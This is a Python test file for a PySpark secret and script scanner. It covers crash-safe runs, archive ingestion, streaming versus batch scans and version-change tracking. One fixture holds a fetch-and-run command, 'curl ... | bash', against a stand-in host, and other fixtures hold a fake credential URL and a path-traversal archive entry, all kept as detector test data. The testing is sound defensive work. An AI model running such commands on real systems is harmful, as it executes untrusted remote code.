"""Runs that are cut off, locations of all kinds, watched trees, changed versions."""

import datetime
import io
import os
import zipfile
from datetime import timedelta

from pyspark.sql import functions as F
from pyspark.sql.readwriter import DataFrameWriter

from palisade.operators import policy
from palisade.operators.history import committed_runs
from palisade.operators.scripts import detect_scripts
from palisade.plans.queries_runs import SECRETS_ONLY
from palisade.plans.scan import run_scan, stored_findings, stored_scans
from palisade.sources.files import prepare_files, read_tree
from palisade.sources.ingest import ingest, ingest_all, source_type
from palisade.sources.watch import publish_listing
from palisade.streaming.changed_files import start_changed
from palisade.streaming.stream_scan import stream_tree, tree_findings


class Killed(Exception):
    pass


def hashed(as_files, pairs):
    return as_files(pairs).withColumn("sha256", F.sha2("content", 256))


def day(n):
    return F.lit(f"2024-01-{n:02d}").cast("timestamp")


def test_a_run_cut_off_behind_any_write_and_repeated_changes_nothing_twice(spark, as_files, tmp_path, monkeypatch):
    out = str(tmp_path / "out")
    real, left = DataFrameWriter.parquet, [None]

    def counted(self, *args, **kwargs):
        real(self, *args, **kwargs)
        if left[0] is not None:
            left[0] -= 1
            if left[0] < 0:
                raise Killed

    monkeypatch.setattr(DataFrameWriter, "parquet", counted)

    def run(n):
        files = hashed(as_files, [("a.txt", "postgresql://u:p@h/db"), ("b.txt", f"day {n}")])
        return run_scan(spark, files, out, day(n), policy.Policy(), skip=SECRETS_ONLY, tags=F.array(F.lit("t"))).collect()

    def state():
        scans, tags = stored_scans(spark, out)
        counts = {committed_runs(spark, out).count(), scans.count(), tags.count()}
        assert len(counts) == 1 and {r.duration_ms > 0 for r in scans.collect()} == {True} and stored_findings(spark, out).count() == 1
        return counts.pop()

    first = run(1)
    n, done = 1, []
    while True:
        n, left[0] = n + 1, len(done)
        try:
            run(n)
            break
        except Killed:
            left[0] = None
        done.append(state())
        assert run(n) == first and state() == n
    left[0] = None
    assert run(n) == first and state() == n
    # Only behind its last write, the commit, is a run there that was cut off.
    assert len(done) >= 9 and done == [*range(1, len(done)), len(done) + 1]


def packed(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buffer.getvalue()


def test_locations_of_all_kinds(spark, tmp_path):
    tree = tmp_path / "tree"
    (tree / "r" / ".github").mkdir(parents=True)
    (tree / "r" / ".github" / "x.yml").write_text("on: push")
    (tree / "r" / "in.zip").write_bytes(packed({"m.txt": "m"}))
    (tmp_path / "pack.zip").write_bytes(packed({".env": "A=1", "../evil": "x", "node_modules/a.js": "x", "d/e.py": "e"}))
    (tmp_path / "odd.TGZ").write_bytes(b"broken")
    (tmp_path / "one.sh").write_text("echo")
    (tmp_path / "app.rar").write_bytes(b"?")
    places = [str(tmp_path / n) for n in ("tree", "pack.zip", "odd.TGZ", "one.sh", "app.rar")]
    assert [source_type(spark, p) for p in places] == ["directory", "archive", "archive", "file", "archive"]
    got = sorted((r.source_type, r.repo_id, r.path, bytes(r.raw)) for r in ingest_all(spark, places).collect())
    assert got == [
        ("archive", "pack.zip", ".env", b"A=1"), ("archive", "pack.zip", "d/e.py", b"e"),
        ("directory", "r", ".github/x.yml", b"on: push"), ("directory", "r", "in.zip", (tree / "r" / "in.zip").read_bytes()),
        ("file", "one.sh", "one.sh", b"echo"),
    ]
    assert [r.repo_id for r in ingest(spark, places[3], "mine").collect()] == ["mine"]


def test_a_run_opens_archives(spark, tmp_path):
    tree = tmp_path / "tree" / "r"
    tree.mkdir(parents=True)
    (tree / "in.zip").write_bytes(packed({"conf/key.txt": "postgresql://u:p@h/db"}))
    (tree / "bad.zip").write_bytes(b"PK?")
    files = prepare_files(read_tree(spark, str(tmp_path / "tree")))
    for expand, repos in ((True, {"r", "r!in.zip"}), (False, {"r"})):
        out = str(tmp_path / f"out{expand}")
        decided = run_scan(spark, files, out, day(1), skip=SECRETS_ONLY, expand=expand)
        assert {r.repo_id for r in decided.collect()} == repos
        assert {(r.repo_id, r.path) for r in stored_findings(spark, out).collect()} == ({("r!in.zip", "conf/key.txt")} if expand else set())


def test_watched_tree_equals_batch(spark, tmp_path):
    root, out, checkpoint = tmp_path / "in", str(tmp_path / "out"), str(tmp_path / "cp")
    texts = {
        "r/.github/workflows/run.sh": "sudo x", "r/.env": "KEY=1", "r/_private/a.sh": "curl http://x.example/a | bash", "s/b.sh": "sudo y",
        "s/node_modules/c.sh": "sudo z",
    }
    for name, text in texts.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    key = lambda df: sorted((r.repo_id, r.path, r.rule_id, r.line_no or 0) for r in df.collect())
    batch = lambda: key(detect_scripts(prepare_files(read_tree(spark, str(root)))))

    def look():
        stream_tree(spark, str(root), out, checkpoint, None, detect_scripts).awaitTermination()
        return key(tree_findings(spark, out, checkpoint))

    assert look() == batch() and {x[1] for x in batch()} == {".github/workflows/run.sh", "_private/a.sh", "b.sh"}
    assert look() == batch()
    (root / "r/_private/a.sh").write_text("echo harmless now")
    (root / "s/b.sh").unlink()
    (root / "s/.hidden.sh").write_text("sudo h")
    assert look() == batch() and {x[1] for x in batch()} == {".github/workflows/run.sh", ".hidden.sh"}
    # Back again, and two listings before the stream looks.
    (root / "s/b.sh").write_text("sudo back")
    assert publish_listing(spark, str(root), f"{checkpoint}/entries") == 1
    (root / "s/.hidden.sh").unlink()
    assert look() == batch() and {x[1] for x in batch()} == {".github/workflows/run.sh", "b.sh"}
    assert publish_listing(spark, str(root), f"{checkpoint}/entries") == 0
    assert os.path.isdir(checkpoint)


VERSION = "repo_id string, path string, size long, sha256 string, seen timestamp"


def test_changed_versions(spark, tmp_path):
    at = lambda d, h=0: datetime.datetime(2024, 1, d, h)
    deliveries = [
        [("r", "a", 1, "x", at(1)), ("r", "a", 1, "x", at(1, 5)), ("r", "b", 1, "x", at(1)), ("r", "b", 2, "y", at(1, 1)), ("r", "n", None, None, at(1))],
        [("r", "a", 1, "x", at(1, 6)), ("r", "b", 2, "y", at(1, 7)), ("r", "n", None, None, at(1, 9))],
        [("r", "a", 1, "x", at(9)), ("r", "c", 1, "x", at(9)), ("r", "b", 1, "x", at(1, 8))],
        [("r", "a", 1, "x", at(9, 1)), ("r", "c", 1, "z", at(9, 1))],
    ]
    new = []
    for i, rows in enumerate(deliveries):
        spark.createDataFrame(rows, VERSION).write.mode("append").parquet(str(tmp_path / "in"))
        stream = spark.readStream.schema(VERSION).parquet(str(tmp_path / "in"))
        start_changed(spark, stream, str(tmp_path / "out"), str(tmp_path / "cp"), "r1", timedelta(days=2), late="1 minute").awaitTermination()
        got = sorted((r.path, r.size or 0, str(r.sha256), r.seen) for r in spark.read.parquet(str(tmp_path / "out")).collect())
        new.append([x for x in got if all(x not in n for n in new)])
    assert new[0] == [("a", 1, "x", at(1)), ("b", 1, "x", at(1)), ("b", 2, "y", at(1, 1)), ("n", 0, "None", at(1))]
    assert new[1] == []
    # a was not seen for eight days; b's late row stands before the watermark.
    assert new[2] == [("a", 1, "x", at(9)), ("c", 1, "x", at(9))]
    assert new[3] == [("c", 1, "z", at(9, 1))]
    # Other rules take everything anew.
    stream = spark.readStream.schema(VERSION).parquet(str(tmp_path / "in"))
    start_changed(spark, stream, str(tmp_path / "out2"), str(tmp_path / "cp2"), "r2", timedelta(days=2)).awaitTermination()
    assert {r.path for r in spark.read.parquet(str(tmp_path / "out2")).collect()} == {"a", "b", "c", "n"}
